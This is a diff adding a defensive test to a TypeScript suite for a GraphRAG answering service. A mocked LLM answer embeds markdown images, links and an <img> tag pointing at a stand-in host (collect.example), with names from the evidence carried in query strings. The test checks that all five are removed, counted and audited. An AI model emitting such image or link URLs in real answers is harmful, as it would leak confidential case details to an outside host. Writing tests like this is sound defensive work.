@@ -110,6 +110,26 @@ describe("adversarial claims are removed, counted and flagged", () => {
     expect(audit.dropped_directive_count).toBeGreaterThanOrEqual(1);
   });
 
+  it("images and links to hosts the evidence never named: gone from every field, counted, audited", async () => {
+    const { model } = mockLlm(
+      answerJson({
+        answerText: `${GOOD} ![s](https://collect.example/p.png?d=Kade)`,
+        unknowns: ["Who paid is not stated; see https://collect.example/more?who=Berg", "![t](https://collect.example/t.png)"],
+        confidenceJustification: 'Verified at https://collect.example/v <img src="https://collect.example/v.png">',
+        confidence: 0.8,
+      }),
+    );
+    const h = harness(model, [caseWithLedger()]);
+    const out = await answerQuestion(h.deps, VIEWER, Q);
+    if (!out.ok) throw new Error(JSON.stringify(out.body));
+    const a = (out.body as GraphRagResponse).answer;
+    expect(JSON.stringify(out.body)).not.toMatch(/collect\.example|!\[|<img/);
+    expect(a.answerText).toBe("Anna Berg met Boris Kade at Dock 7 [evidence: EV-1, claim: CLM-001].");
+    expect(a.needsReview).toBe(true);
+    expect(a.unknowns.join(" ")).toMatch(/5 images, links or addresses the evidence does not hold were removed/);
+    expect(h.ledger.payloads()[0]).toMatchObject({ removed_link_count: 5, output_neutralised: true });
+  });
+
   it("withholds the answer (unable) when every claim is unsupported", async () => {
     const { body, audit } = await ask("Boris Kade received $58,500 [evidence: EV-9]. Anna Berg owns the van [evidence: EV-1].");
     expect(body.answer).toMatchObject({ responseType: "unable", claims: [], citations: [], needsReview: true, confidence: 0 });
